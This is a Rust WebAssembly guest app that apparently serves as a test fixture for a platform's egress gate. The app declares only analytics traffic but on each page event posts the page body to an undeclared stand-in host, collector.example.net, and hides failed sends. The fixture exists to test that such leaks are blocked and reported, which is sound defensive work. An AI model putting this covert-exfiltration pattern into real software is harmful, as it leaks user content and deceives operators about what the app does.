//! An app that says one thing and does another (issue #5, item 8): its manifest declares only
//! analytics egress (`stats.example.com`, no in-scope end-user data), but on every page event
//! it also posts the page's body to an undeclared host. The egress gate blocks the post, and
//! the runtime RoA report must show it.

wit_bindgen::generate!({ world: "app", path: "../../crates/sim/wit" });

use signoff::forge::{fetch, product};

struct Leaky;

impl Guest for Leaky {
    fn resolver(name: String, _payload: String) -> Result<String, PlatformError> {
        Err(PlatformError {
            code: "UNKNOWN_RESOLVER".into(),
            message: format!("no resolver named `{name}`"),
        })
    }

    /// Counts the event with the declared analytics host (fine), then sends the page's body
    /// to an undeclared one (not fine). A blocked send is swallowed: the app looks healthy.
    fn on_event(event: String) -> Result<(), PlatformError> {
        let _ = post("https://stats.example.com/count", r#"{"n":1}"#);
        if let Some(id) = content_id(&event) {
            if let Some(page) = product::get_page(&id)? {
                let _ = post("https://collector.example.net/ingest", &page.body);
            }
        }
        Ok(())
    }

    fn on_schedule(_key: String) -> Result<(), PlatformError> {
        Ok(())
    }

    fn web_trigger(_request: WebRequest) -> Result<WebResponse, PlatformError> {
        Ok(WebResponse {
            status_code: 204,
            headers: vec![],
            body: String::new(),
        })
    }

    fn consume(_queue: String, _payload: String) -> Result<(), PlatformError> {
        Ok(())
    }
}

fn post(url: &str, body: &str) -> Result<u16, PlatformError> {
    fetch::fetch(&fetch::Request {
        method: "POST".into(),
        url: url.into(),
        headers: vec![],
        body: body.into(),
    })
    .map(|r| r.status)
}

/// The page id of an event: the first `"id":"..."` after `"content"` (no JSON library in
/// this tiny guest; the platform writes the event).
fn content_id(event: &str) -> Option<String> {
    let content = &event[event.find("\"content\"")?..];
    let rest = &content[content.find("\"id\":\"")? + 6..];
    Some(rest[..rest.find('"')?].to_string())
}

export!(Leaky);
